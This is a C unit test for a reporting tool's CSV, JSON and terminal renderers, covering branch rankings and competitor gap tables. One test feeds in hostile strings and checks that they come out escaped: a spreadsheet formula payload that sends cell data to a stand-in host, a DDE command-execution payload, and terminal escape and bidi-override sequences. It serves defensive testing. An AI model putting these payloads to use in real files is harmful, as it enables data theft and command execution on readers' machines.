/* test_render: the layouts of render/ on results built by hand, without a
 * database: a ranking with a tie group, an unranked low-n branch and the
 * chain line, and a competitor gap table, in CSV and JSON, against texts
 * written out here.  The golden-output integration test checks every
 * report on real data; this one pins what each cell of a result becomes. */
#include "bm_test.h"

#include <stdlib.h>
#include <string.h>

#include "render.h"

/* Two regions, three branches. */
static bm_q_ref_t *s_ref(void)
{
    bm_q_ref_t *ref = calloc(1, sizeof *ref);
    ref->regions = calloc(2, sizeof *ref->regions);
    ref->branches = calloc(3, sizeof *ref->branches);
    snprintf(ref->chain_code, sizeof ref->chain_code, "ACME");
    ref->nregions = 2;
    snprintf(ref->regions[0].code, sizeof ref->regions[0].code, "NORTH");
    snprintf(ref->regions[1].code, sizeof ref->regions[1].code, "SOUTH");
    static const char *const codes[] = {"B001", "B002", "B003"};
    static const char *const names[] = {"Ruse, \"Center\"", "Varna", "Burgas"};
    ref->nbranches = 3;
    for (int b = 0; b < 3; b++) {
        snprintf(ref->branches[b].code, sizeof ref->branches[b].code, "%s", codes[b]);
        snprintf(ref->branches[b].name, sizeof ref->branches[b].name, "%s", names[b]);
        ref->branches[b].region = b == 0 ? 0 : 1;
    }
    return ref;
}

static bm_estimate_t s_est(double value, double n, double lo, double hi)
{
    bm_estimate_t e;
    memset(&e, 0, sizeof e);
    e.has_value = 1;
    e.has_ci = lo <= hi;
    e.value = value;
    e.n = n;
    e.lo = lo;
    e.hi = hi;
    return e;
}

/* Renders res in fmt into a string (caller frees). */
static char *s_render(const bm_result_t *res, bm_format_t fmt)
{
    char *buf = NULL;
    size_t len = 0;
    FILE *out = open_memstream(&buf, &len);
    bm_err_t err;
    CHECK(bm_render_result(res, fmt, out, &err) == 0);
    fclose(out);
    return buf;
}

static void test_rank(void)
{
    bm_rank_result_t *r = calloc(1, sizeof *r);
    r->ref = s_ref();
    r->metric = bm_metric_find("nps");
    r->kind = BM_PERIOD_MONTH;
    CHECK(bm_date_parse("2026-10-01", &r->prev, NULL) == 0);
    CHECK(bm_date_parse("2026-11-01", &r->cur, NULL) == 0);
    r->region = -1;
    r->min_n = 30;
    r->status = (bm_period_status_t){.partial = 0, .days = 30, .covered = 30};
    r->ntests = 2;
    r->rows = calloc(3, sizeof *r->rows);
    r->nrows = 3;
    bm_estimate_t e1 = s_est(42.26, 120, 30.5, 54), e2 = s_est(38, 80, 20.04, 55.96);
    bm_estimate_t e3 = s_est(90, 4, 1, 0);   /* no interval */
    r->rows[0] = (bm_rank_row_t){.branch = 1, .ranked = 1, .rank_lo = 1, .rank_hi = 2,
                                 .group = 1, .cur = bm_figure(&e1, 30), .prev = e2,
                                 .change = {.test = {1, 1, 0.01}, .q = 0.02, .arrow = 1}};
    r->rows[1] = (bm_rank_row_t){.branch = 0, .ranked = 1, .rank_lo = 1, .rank_hi = 2,
                                 .group = 1, .cur = bm_figure(&e2, 30)};
    r->rows[2] = (bm_rank_row_t){.branch = 2, .cur = bm_figure(&e3, 30),
                                 .change = {.test = {1, -1, 0.02}, .q = 0.02, .arrow = -1}};
    r->scopes = calloc(1, sizeof *r->scopes);
    r->nscopes = 1;
    r->scopes[0] = (bm_rank_scope_t){.is_chain = 1, .code = r->ref->chain_code,
                                     .cur = bm_figure(&e1, 30), .prev = e1};
    bm_result_t res = {.kind = BM_REPORT_RANK, .scope_limited = 1, .u.rank = r};

    char *csv = s_render(&res, BM_FMT_CSV);
    const char *want =
        "rank,group,branch,name,region,value,n,ci_low,ci_high,low_n,previous,change,arrow,"
        "change_q\r\n"
        "1-2,1,B002,Varna,SOUTH,42.3,120,30.5,54.0,false,38.0,4.3,+,0.0200\r\n"
        "1-2,1,B001,\"Ruse, \"\"Center\"\"\",NORTH,38.0,80,20.0,56.0,false,,,,\r\n"
        ",,B003,Burgas,SOUTH,90.0,4,,,true,,,-,0.0200\r\n"
        "\r\n"
        "scope,code,value,n,ci_low,ci_high,low_n,previous,change,arrow,change_q\r\n"
        "chain,ACME,42.3,120,30.5,54.0,false,42.3,0.0,,\r\n"
        "\r\n"
        "period,label,start,days,days_covered,partial\r\n"
        "month,2026-11,2026-11-01,30,30,false\r\n";
    if (!csv || strcmp(csv, want))
        fprintf(stderr, "got:\n%s\nwant:\n%s\n", csv ? csv : "(null)", want);
    CHECK(csv && !strcmp(csv, want));
    free(csv);

    char *json = s_render(&res, BM_FMT_JSON);
    CHECK(json && strstr(json, "\"rank\": \"1-2\",\n      \"group\": 1,\n      "
                               "\"branch\": \"B002\""));
    CHECK(json && strstr(json, "\"rank\": null,\n      \"group\": null,\n      "
                               "\"branch\": \"B003\""));
    CHECK(json && strstr(json, "\"low_n\": true,\n      \"previous\": null,\n      "
                               "\"change\": null,\n      \"arrow\": \"down\""));
    CHECK(json && strstr(json, "period month 2026-11, previous 2026-10; region all"));
    CHECK(json && strstr(json, "your access is limited to part of the chain"));
    free(json);
    bm_rank_result_destroy(&res.u.rank);
}

static void test_gaps(void)
{
    bm_competitors_result_t *r = calloc(1, sizeof *r);
    r->ref = s_ref();
    r->kind = BM_PERIOD_QUARTER;
    CHECK(bm_date_parse("2026-10-01", &r->cur, NULL) == 0);
    r->min_n = 3;
    /* 2026-Q4 while it runs: 65 of its 92 days begun. */
    r->status = (bm_period_status_t){.partial = 1, .days = 92, .covered = 65};
    r->gaps.rows = calloc(2, sizeof *r->gaps.rows);
    r->gaps.nrows = r->gaps.cap = 2;
    bm_gap_row_t *g = r->gaps.rows;
    g[0] = (bm_gap_row_t){.scope = BM_GAP_BRANCH, .index = 0, .versus = BM_GAP_VS_RADIUS,
                          .radius_km = 2.5, .outlets = 1, .channels = 1u, .comp_outlets = 1,
                          .own = s_est(80, 5, 70, 90),
                          .comp = s_est(70, 2, 40, 100), .has_gap = 1, .gap = 10,
                          .has_ci = 1, .gap_lo = -5.55, .gap_hi = 25.55, .low_n = 1};
    g[1] = (bm_gap_row_t){.scope = BM_GAP_CHAIN, .index = -1, .versus = BM_GAP_VS_ALL,
                          .outlets = 4, .channels = 3u, .own = s_est(75, 40, 70, 80)};
    snprintf(g[1].section, sizeof g[1].section, "GREET");
    bm_result_t res = {.kind = BM_REPORT_COMPETITORS, .u.competitors = r};
    char *csv = s_render(&res, BM_FMT_CSV);
    const char *want =
        "scope,versus,section,channel,own,own_n,competitors,competitors_n,"
        "competitors_outlets,gap,gap_low,gap_high,significant,low_n,q\r\n"
        /* -5.55 and 25.55 both round away from zero (printf gave -5.5) */
        "branch B001,within 2.5 km (1 outlet),(overall),visit,80.0,5,70.0,2,1,10.0,-5.6,25.6,,"
        "true,\r\n"
        "chain ACME,all competitors (4 outlets),GREET,visit+call,75.0,40,,0,0,,,,,false,\r\n"
        "\r\n"
        "period,label,start,days,days_covered,partial\r\n"
        "quarter,2026-Q4,2026-10-01,92,65,true\r\n";
    if (!csv || strcmp(csv, want))
        fprintf(stderr, "got:\n%s\nwant:\n%s\n", csv ? csv : "(null)", want);
    CHECK(csv && !strcmp(csv, want));
    free(csv);
    /* The partial period says so, in a note and as "partial": true. */
    char *json = s_render(&res, BM_FMT_JSON);
    CHECK(json && strstr(json, "\"partial\": true"));
    CHECK(json && strstr(json, "partial period: 65 of 92 days; its gaps are not tested"));
    free(json);
    bm_competitors_result_destroy(&res.u.competitors);
}

/* Text from store systems through the three writers (issue 16, item 5). */
static const char *const s_hostile[] = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "@SUM(A1:A9)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\tTAB",
    "\rCR",
    "ESC\x1b]0;pwned\x07 \x1b[2J",
    "bidi \xe2\x80\xae" "evil",
    "C1 \xc2\x9b" "31m",
    "bad \xff byte",
    "-5.5 - 3.2",          /* a number list (a trend): stays as it is */
    "Ruse, \"Center\"",
    "plain",
};
#define S_NHOSTILE (sizeof s_hostile / sizeof s_hostile[0])

static char *s_print_table(bm_format_t fmt)
{
    static const char *const cols[] = {"category", "value"};
    bm_report_t *rep = bm_report_new();
    bm_table_t *t = bm_table_new("causes", 2, cols);
    for (size_t i = 0; t && i < S_NHOSTILE; i++) {
        bm_table_add_row(t);
        bm_table_set_text(t, 0, s_hostile[i]);
        bm_table_set_num(t, 1, -5.55 - (double)i, 1);
    }
    CHECK(rep && t && bm_report_add(rep, &t) == 0);
    bm_report_note(rep, "branch B001 (\x1b[31mred\x1b[0m)");
    char *buf = NULL;
    size_t len = 0;
    FILE *out = open_memstream(&buf, &len);
    CHECK(out && bm_report_print(rep, fmt, out) == 0);
    fclose(out);
    bm_report_destroy(&rep);
    return buf;
}

/* No byte a terminal acts on: C0 except LF (and CR of CSV line ends),
 * DEL, C1 as UTF-8, bidi overrides, bytes that are not UTF-8. */
static int s_terminal_safe(const char *s, int csv)
{
    for (const unsigned char *u = (const unsigned char *)s; *u; u++) {
        if ((*u < 0x20 && *u != '\n' && !(csv && *u == '\r' && u[1] == '\n')) || *u == 0x7F ||
            *u == 0xFF || (*u == 0xC2 && u[1] >= 0x80 && u[1] <= 0x9F) ||
            (*u == 0xE2 && u[1] == 0x80 && u[2] >= 0xAA && u[2] <= 0xAE))
            return 0;
    }
    return 1;
}

static void test_hostile_text(void)
{
    char *csv = s_print_table(BM_FMT_CSV);
    const char *want =
        "category,value\r\n"
        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",-5.6\r\n"
        "\"'@SUM(A1:A9)\",-6.6\r\n"
        "\"'+1+cmd|' /C calc'!A0\",-7.6\r\n"
        "\"'-2+3\",-8.6\r\n"
        "\"'\tTAB\",-9.6\r\n"
        "\"'\rCR\",-10.6\r\n"
        "ESC\\x1b]0;pwned\\x07 \\x1b[2J,-11.6\r\n"
        "bidi \\u202eevil,-12.6\r\n"
        "C1 \\u009b31m,-13.6\r\n"
        "bad \\xff byte,-14.6\r\n"
        "-5.5 - 3.2,-15.6\r\n"
        "\"Ruse, \"\"Center\"\"\",-16.6\r\n"
        "plain,-17.6\r\n";
    if (!csv || strcmp(csv, want))
        fprintf(stderr, "got:\n%s\nwant:\n%s\n", csv ? csv : "(null)", want);
    CHECK(csv && !strcmp(csv, want));
    free(csv);

    char *table = s_print_table(BM_FMT_TABLE);
    CHECK(table && s_terminal_safe(table, 0));
    CHECK(table && strstr(table, "ESC\\x1b]0;pwned\\x07 \\x1b[2J"));
    CHECK(table && strstr(table, "\\tTAB") && strstr(table, "\\rCR"));
    CHECK(table && strstr(table, "bidi \\u202eevil") && strstr(table, "bad \\xff byte"));
    CHECK(table && strstr(table, "branch B001 (\\x1b[31mred\\x1b[0m)"));
    CHECK(table && strstr(table, "=HYPERLINK(") && strstr(table, "-5.6"));
    free(table);

    /* JSON: the same strings to a parser, escaped for a terminal. */
    char *json = s_print_table(BM_FMT_JSON);
    CHECK(json && s_terminal_safe(json, 0));
    CHECK(json && strstr(json, "\"ESC\\u001B]0;pwned\\u0007 \\u001B[2J\""));
    CHECK(json && strstr(json, "\"bidi \\u202Eevil\"") && strstr(json, "\"C1 \\u009B31m\""));
    CHECK(json && strstr(json, "\"bad \\uFFFD byte\""));
    CHECK(json && strstr(json, "\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Click\\\")\""));
    CHECK(json && strstr(json, "\"value\": -5.6"));
    free(json);
}

int main(void)
{
    test_rank();
    test_gaps();
    test_hostile_text();
    return bm_test_result("test_render");
}
